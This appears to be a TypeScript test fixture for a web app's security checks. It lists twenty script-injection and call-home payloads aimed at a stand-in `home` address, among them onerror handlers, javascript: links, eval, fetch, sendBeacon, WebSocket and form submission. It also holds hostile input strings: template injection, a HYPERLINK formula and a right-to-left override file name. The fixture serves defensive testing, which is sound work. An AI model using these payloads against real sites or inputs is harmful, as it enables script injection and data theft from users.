/**
 * Twenty ways in which a text that became part of the page would try to run or to call home. Each is the body of a
 * function with `home` (an address that counts visits) and `mark` (the expression that notes it ran).
 */
export const payloads: readonly (readonly [string, string])[] = [
  ['inline script', "const s = document.createElement('script'); s.textContent = mark; document.body.append(s)"],
  [
    'script from elsewhere',
    "const s = document.createElement('script'); s.src = home + '/s.js'; document.body.append(s)",
  ],
  [
    'innerHTML with onerror',
    "const d = document.createElement('div'); document.body.append(d); d.innerHTML = '<img src=x onerror=\"' + mark + '\">'",
  ],
  [
    'onerror attribute',
    "const i = document.createElement('img'); i.setAttribute('onerror', mark); i.src = 'x:'; document.body.append(i)",
  ],
  [
    'onclick attribute',
    "const b = document.createElement('button'); b.setAttribute('onclick', mark); document.body.append(b); b.click(); b.remove()",
  ],
  [
    'javascript: link',
    "const a = document.createElement('a'); a.href = 'javascript:void(' + mark + ')'; document.body.append(a); a.click(); a.remove()",
  ],
  ['eval', 'eval(mark)'],
  ['Function', 'Function(mark)()'],
  ['timer with text', 'setTimeout(mark, 0)'],
  ['data: module', "import('data:text/javascript,' + encodeURIComponent(mark)).catch(() => 0)"],
  ['blob worker', "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + home + '/w\")'])))"],
  [
    'srcdoc frame',
    "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.' + mark + '</scr' + 'ipt>'; document.body.append(f)",
  ],
  ['frame from elsewhere', "const f = document.createElement('iframe'); f.src = home + '/f'; document.body.append(f)"],
  ['object', "const o = document.createElement('object'); o.data = home + '/o'; document.body.append(o)"],
  ['image from elsewhere', "new Image().src = home + '/i.png'"],
  [
    'style sheet from elsewhere',
    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = home + '/c.css'; document.head.append(l)",
  ],
  ['fetch', "fetch(home + '/fetch', { mode: 'no-cors' }).catch(() => 0)"],
  ['beacon', "navigator.sendBeacon(home + '/b', 'x')"],
  ['socket', "new WebSocket(home.replace('http', 'ws') + '/ws')"],
  [
    'form',
    "const f = document.createElement('form'); f.action = home + '/form'; f.target = 'away'; document.body.append(f); f.submit()",
  ],
]

/**
 * Texts that would do something in a screen that took them for anything but text: markup, links, templates, the two ways
 * in which the translations put one text into another, a formula, a change of the direction of writing. `ran` is what
 * each would set; `home` is as above.
 */
export const hostileTexts = (home: string): readonly string[] => [
  '<img src=x onerror=ran=1>',
  '"><svg onload=ran=1>',
  '<script>ran=1</script>',
  'javascript:void(ran=1)',
  '{{alias}} $t(nav.today)',
  "{{constructor.constructor('ran=1')()}} ${ran=1}",
  '<a href="javascript:ran=1">ver</a>',
  `<iframe src=${home}/frame></iframe>`,
  `<link rel=stylesheet href=${home}/c.css>`,
  `=HYPERLINK("${home}/cell")`,
  `[ver](${home}/link)`,
  'foto\u200Fgpj.exe',
]

/** A text that a field may hold for a while, and that is refused when it is sent: it would turn what stands beside it. */
export const turnedText = 'foto\u202Egpj.exe'
